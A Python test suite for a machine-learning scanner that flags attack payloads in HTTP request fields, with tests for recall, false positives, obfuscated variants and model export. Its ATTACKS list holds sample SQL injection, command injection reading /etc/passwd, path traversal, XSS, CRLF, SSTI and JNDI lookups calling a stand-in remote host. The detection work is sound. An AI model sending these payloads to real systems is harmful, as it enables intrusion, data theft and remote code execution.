"""The payload scanner model on the real labelled payloads: split hygiene, detection of
held-out attacks and their obfuscations, benign values with quotes and brackets, the
compact export (same numbers as the pipeline), hot reload, thresholds and bounds."""

from __future__ import annotations

import random
import shutil
from urllib.parse import quote

import numpy as np
import pytest

from models.data import BENIGN, payload_dataset
from models.evaluate import rate_lower_bound, rate_upper_bound, threshold_at_fpr


@pytest.fixture(scope="module")
def trained():
    """A linear detector + class head fitted on the shape-grouped training groups."""
    from models.payload import fit_default
    from models.search import make_splits

    ds = payload_dataset()
    return ds, make_splits(ds, 0.2), fit_default(ds)


def test_split_keeps_templates_and_held_out_sources_on_one_side():
    from features.payload import normalise, shape, split_context
    from models.data import HELD_OUT_SOURCES
    from models.payloads.corpus import ATTACK_CLASSES
    from models.search import make_splits

    ds = payload_dataset()
    key = [f"{c}|{normalise(v)}" for c, v in map(split_context, ds.X["payload"])]
    assert len(set(key)) == len(key)  # deduplicated on (context, normal form)
    sp = make_splits(ds, 0.2)
    g = ds.groups.to_numpy()
    assert not set(g[sp.train]) & set(g[sp.holdout])
    assert not set(g[sp.val]) & set(g[sp.holdout])
    # whole sources are only ever evaluated on
    only = np.flatnonzero(ds.source.isin(HELD_OUT_SOURCES).to_numpy())
    assert len(only) > 1500 and set(only) <= set(sp.holdout)
    assert not set(only) & set(sp.fit)
    # near-duplicates (same template, other digits) share a group
    assert shape("1' or 17=17 --") == shape("1' OR 4=4 --")
    # every class the head must know, benign values in every part of a request
    assert set(ds.detail) == {BENIGN, *ATTACK_CLASSES}
    contexts = {c for c, _ in map(split_context, ds.X["payload"][ds.detail == BENIGN])}
    assert {"param", "header", "user-agent", "cookie", "referer", "path", "body"} <= contexts
    attack_contexts = {c for c, _ in map(split_context, ds.X["payload"][ds.detail != BENIGN])}
    assert {"header", "user-agent", "cookie", "path"} <= attack_contexts
    # the lists' harmless fragments are gone
    raw = set(ds.X["payload"])
    assert not {"'", "or", "select", "%00"} & raw


def test_fragments_and_cookie_pairs():
    from features.payload import cookie_pairs
    from models.payloads.corpus import is_fragment

    assert is_fragment("'") and is_fragment("or") and is_fragment("SELECT") and is_fragment("%00")
    assert not is_fragment("1 UNION SELECT username, password FROM users")
    assert not is_fragment("admin'--")
    assert cookie_pairs('a=1; b="x%20y"; lone') == [("a", "1"), ("b", "x y"), ("", "lone")]


def test_conflicting_labels_are_dropped(tmp_path):
    csv = tmp_path / "p.csv"
    csv.write_text(
        "payload,attack_type\n"
        "hello,norm\n"
        "%27%20or%201%3D1,sqli\n"
        "' or 1=1,norm\n"  # the same normal form as the row above, another label
        "<b>x</b>,xss\n"
        "world,norm\n"
    )
    kw = {"synthetic_benign": 0, "api_benign": 0, "corpora": False, "access_log": False}
    ds = payload_dataset(csv, scored_only=False, **kw)
    assert sorted(ds.X["payload"]) == ["<b>x</b>", "hello", "world"]
    assert sorted(ds.y.tolist()) == [0, 0, 1]
    # plain words are never scored by the gateway, so they are not training data either
    assert list(payload_dataset(csv, **kw).X["payload"]) == ["<b>x</b>"]


def test_missing_columns_are_named(tmp_path):
    from models.data import DataQualityError

    csv = tmp_path / "p.csv"
    csv.write_text("value,label\nx,norm\n")
    with pytest.raises(DataQualityError, match="attack_type"):
        payload_dataset(csv)


def test_held_out_attacks_caught_and_benign_values_pass(trained):
    ds, sp, model = trained
    hold = sp.holdout
    vals = ds.X["payload"].to_numpy()[hold]
    cls = ds.detail.to_numpy()[hold]
    verdicts = model.scan(list(vals))
    flagged = np.array([lab != "benign" for lab, _ in verdicts])
    attack = cls != BENIGN
    assert flagged[attack].mean() > 0.93  # recall on templates and lists never trained on
    for c in ("sqli", "xss", "path-traversal", "cmdi"):
        assert flagged[cls == c].mean() > 0.9, c
    assert flagged[~attack].mean() <= 0.003  # benign false positives stay rare
    # the class head names the class of caught attacks
    named = np.array([lab for lab, _ in verdicts])[flagged & attack]
    assert (named == cls[flagged & attack]).mean() > 0.9


# values a new user tried on 2026-12-04 (issue 25): ordinary API values that scored as attacks
ORDINARY = [
    ("param", "2026-11-02T10:00:00Z"),
    ("param", "2026-11-02 10:00:00+01:00"),
    ("param", '{"page":37,"per_page":50}'),
    ("param", '{"filter": {"status": "open"}, "sort": "-created_at"}'),
    ("header", "en-GB,en-US;q=0.8,en;q=0.6"),
    ("header", "de-CH, de;q=0.9, en;q=0.8"),
    ("param", "x" * 1999),
    ("param", "=" * 300),
    (
        "user-agent",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/121.0.6167.85 Safari/537.36",
    ),
    ("user-agent", "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15"),
    ("param", "Conan O'Brien"),
    ("param", "Siobhán O'Brien-Smith"),
    ("param", "is 7 < 12 ?"),
    ("param", "I <3 this"),
    ("param", 'she said "hello"'),
    ("param", "Rock 'n' Roll"),
    ("param", "def area(r): return 3.14 * r ** 2"),
    ("body", "Dear team,\nthe order arrived late.\nRegards, Ann"),
    ("cookie", "GA1.2.1234567.1700000000"),
]
# attacks in the styles the first scanner missed (issue 25)
ATTACKS = [
    ("param", "1 UNION SELECT username, password FROM users", "sqli"),
    ("param", "1; DROP TABLE users", "sqli"),
    ("param", "admin'--", "sqli"),
    ("param", "Name' or 'Name'='Name", "sqli"),
    ("param", "| whoami", "cmdi"),
    ("param", "; cat /etc/passwd", "cmdi"),
    ("param", "javascript:alert(1)", "xss"),
    ("param", "foo%0d%0aSet-Cookie: admin=1", "crlf"),
    ("param", 'bob%0a127.0.0.1 - admin [01/Jan/2026] "GET /admin" 200', "crlf"),
    ("param", "${jndi:ldap://evil.example/a}", "jndi"),
    ("param", "{{7*7}}", "ssti"),
    ("param", '{"$ne": null}', "nosqli"),
    ("path", "/api/v1/files/../../../etc/passwd", "path-traversal"),
    ("user-agent", "${jndi:ldap://198.51.100.7:1389/Basic/Command}", "jndi"),
    ("cookie", "1' or '1'='1", "sqli"),
    ("header", "<script>alert(document.domain)</script>", "xss"),
]


def test_ordinary_api_values_pass_and_reported_attacks_are_named(trained):
    from features.payload import in_context

    _, _, model = trained
    seen = set(trained[0].X["payload"])
    ordinary = [in_context(c, v) for c, v in ORDINARY]
    assert not seen & set(ordinary), seen & set(ordinary)  # none is a training value
    out = model.scan(ordinary)
    wrong = [(v[:60], o) for v, o in zip(ordinary, out, strict=True) if o[0] != "benign"]
    assert not wrong, wrong
    out = model.scan([in_context(c, v) for c, v, _ in ATTACKS])
    got = [(v, o[0]) for (_, v, want), o in zip(ATTACKS, out, strict=True) if o[0] != want]
    assert not got, got


def _variants(value: str, rng: random.Random) -> list[str]:
    return [
        quote(value, safe=""),
        quote(quote(value, safe=""), safe=""),
        "".join(f"&#{ord(c)};" if c in "<>'\"()" else c for c in value),
        "".join(ch.upper() if rng.random() < 0.5 else ch for ch in value),
        value.replace(" ", "/**/"),
        value.replace(" ", "\t"),
    ]


def test_known_attacks_and_their_obfuscations_are_caught(trained):
    """Held-out real attacks of every class: each one caught in its plain form is caught,
    with the same class, in all six obfuscations (encoding must not evade the scanner)."""
    ds, sp, model = trained
    rng = random.Random(0)
    hold = sp.holdout
    vals = ds.X["payload"].to_numpy()[hold]
    cls = ds.detail.to_numpy()[hold]
    picked = []
    for c in ("sqli", "xss", "path-traversal", "cmdi"):
        idx = np.flatnonzero(cls == c)
        picked += [(vals[i], c) for i in rng.sample(list(idx), min(40, len(idx)))]
    plain = model.scan([v for v, _ in picked])
    caught = [(v, c) for (v, c), (lab, _) in zip(picked, plain, strict=True) if lab == c]
    assert len(caught) >= 0.9 * len(picked)
    variants = [(x, v, c) for v, c in caught for x in _variants(v, rng)]
    out = model.scan([x for x, _, _ in variants])
    missed = [(v, x) for (x, v, _), (lab, _) in zip(variants, out, strict=True) if lab == "benign"]
    assert not missed, missed[:5]
    renamed = [lab != c for (_, _, c), (lab, _) in zip(variants, out, strict=True)]
    assert np.mean(renamed) < 0.02  # and almost always under the same class


def test_compact_export_gives_the_pipeline_numbers(trained, tmp_path):
    from features.scanner import CompactScanner
    from models.payload import compact_scanner, recentre

    ds, sp, model = trained
    compact = compact_scanner(model, "3")
    path = compact.save(tmp_path / "payload.npz")
    loaded = CompactScanner.load(path)
    vals = [*ds.X["payload"].to_numpy()[sp.holdout][:1500], "", "  ", "é' <x>", "1" * 5000]
    full = model.scan(vals)
    fast = loaded.scan(vals)
    assert [a[0] for a in full] == [b[0] for b in fast]
    assert max(abs(a[1] - b[1]) for a, b in zip(full, fast, strict=True)) < 1e-5
    assert loaded.version == "3" and loaded.family == "LogisticRegression"
    # the scan score is re-centred: the training threshold sits at 0.5
    assert abs(float(recentre(model.threshold, model.threshold)) - 0.5) < 1e-9
    assert (
        recentre(np.array([0.01, 0.5, 0.99]), 0.2) == np.sort(recentre([0.01, 0.5, 0.99], 0.2))
    ).all()


def test_a_compact_export_that_differs_is_refused(trained):
    """The compiled-champion rule for the scanner: compared with the model before it is
    written; a tampered export (one weight moved) is named, a faithful one passes."""
    from models.payload import check_compact, compact_scanner

    _, _, model = trained
    compact = compact_scanner(model, "5")
    assert check_compact(compact, model) == ""
    compact.w = compact.w * 1.5  # the same shape, other numbers
    problem = check_compact(compact, model)
    assert "differ" in problem


def test_non_linear_detector_is_not_exported(trained):
    from models.payload import NotCompactError, PayloadModel, compact_scanner
    from models.search import build_model

    ds, sp, model = trained
    rows = sp.train[:3000]
    p = {
        "family": "xgboost",
        "text": True,
        "n_rounds": 5,
        "max_depth": 3,
        "learning_rate": 0.3,
        "subsample": 1.0,
        "colsample_bytree": 1.0,
        "min_child_weight": 1.0,
        "reg_lambda": 1.0,
    }
    det = build_model(p, "binary", ds.X.iloc[rows], ds.y.iloc[rows])
    with pytest.raises(NotCompactError, match="XGBClassifier"):
        compact_scanner(PayloadModel(det, model.head, 0.5))


def test_local_scanner_hot_reloads_and_keeps_the_last_good(trained, tmp_path):
    from gateway.scan import LocalScanner
    from models.payload import compact_scanner

    _, _, model = trained
    path = tmp_path / "scanner" / "payload.npz"
    ls = LocalScanner(path)
    assert ls.scanner is None and ls.scan(["x"]).reason == "no_scanner"
    v1 = compact_scanner(model, "1")
    v1.save(path)
    assert ls.reload() and ls.scanner.version == "1"
    assert ls.scan(["1' or '1'='1"]).label == "sqli"
    assert not ls.reload()  # unchanged file: nothing to do
    v2 = compact_scanner(model, "2")
    shutil.copy(v2.save(tmp_path / "v2.npz"), path)
    assert ls.reload() and ls.scan(["x"]).model_version == "2"
    path.write_bytes(b"not an npz file, truncated")  # a broken export is refused
    assert not ls.reload()
    assert ls.scanner.version == "2" and ls.error
    path.unlink()  # no compact form any more (a non-linear champion): local scanning stops
    assert ls.reload() and ls.scanner is None


def test_threshold_at_fpr_and_rate_bounds():
    y = np.array([0] * 1000 + [1] * 10)
    s = np.r_[np.linspace(0, 0.5, 1000), np.full(10, 0.9)]
    t = threshold_at_fpr(y, s, 0.002)  # two of 1,000 negatives may be flagged
    assert ((s >= t) & (y == 0)).sum() == 2 and ((s >= t) & (y == 1)).sum() == 10
    assert ((s >= threshold_at_fpr(y, s, 0.0)) & (y == 0)).sum() == 0
    from scipy.stats import beta

    rate, up = rate_upper_bound(3, 2000)
    assert rate == 0.0015 and abs(up - beta.ppf(0.95, 4, 1997)) < 1e-12
    assert rate_lower_bound(0, 100) == 0.0
    assert abs(rate_lower_bound(5, 100) - beta.ppf(0.05, 5, 96)) < 1e-12
